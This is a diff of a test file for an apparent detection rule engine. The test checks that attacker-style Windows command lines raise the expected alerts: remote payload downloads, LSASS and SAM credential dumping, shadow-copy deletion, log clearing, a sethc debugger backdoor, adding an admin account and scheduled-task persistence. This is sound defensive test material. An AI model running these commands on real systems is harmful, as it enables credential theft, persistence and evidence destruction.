@@ -278,13 +278,13 @@ def test_remote_desktop_needs_a_remote_address_and_the_loopback_is_a_tunnel(fire
 def test_command_lines_of_concern_are_seen(fires: Fires) -> None:
     wanted = {
         r"certutil.exe -urlcache -f http://192.0.2.1/a.exe a.exe": "cmd.download",
-        r"regsvr32.exe /u /s /i:http://192.0.2.1/a.sct scrobj.dll": "cmd.proxy_execution",
+        r"regsvr32.exe /u /s /i:http://192.0.2.1/a.sct scrobj.dll": "cmd.regsvr32",
         r"powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA": "cmd.encoded_powershell",
         r"vssadmin.exe delete shadows /all /quiet": "cmd.recovery_removed",
         r"wevtutil cl Security": "cmd.log_cleared",
-        r"reg save HKLM\SAM C:\temp\s.hiv": "cmd.credential_dump",
-        r"procdump64.exe -accepteula -ma lsass.exe C:\x.dmp": "cmd.credential_dump",
-        r"rundll32 C:\windows\system32\comsvcs.dll, MiniDump 4868 C:\x.bin full": "cmd.credential_dump",
+        r"reg save HKLM\SAM C:\temp\s.hiv": "cmd.account_database_saved",
+        r"procdump64.exe -accepteula -ma lsass.exe C:\x.dmp": "cmd.lsass_dump",
+        r"rundll32 C:\windows\system32\comsvcs.dll, MiniDump 4868 C:\x.bin full": "cmd.lsass_dump",
         r'reg add "HKLM\SOFTWARE\X\Image File Execution Options\sethc.exe" /v Debugger /d cmd.exe': "cmd.debugger_added",
         r"net localgroup administrators helper /add": "cmd.account_added",
         r"schtasks /create /sc minute /mo 5 /tn X /tr C:\TMP\a.exe": "cmd.task_created",
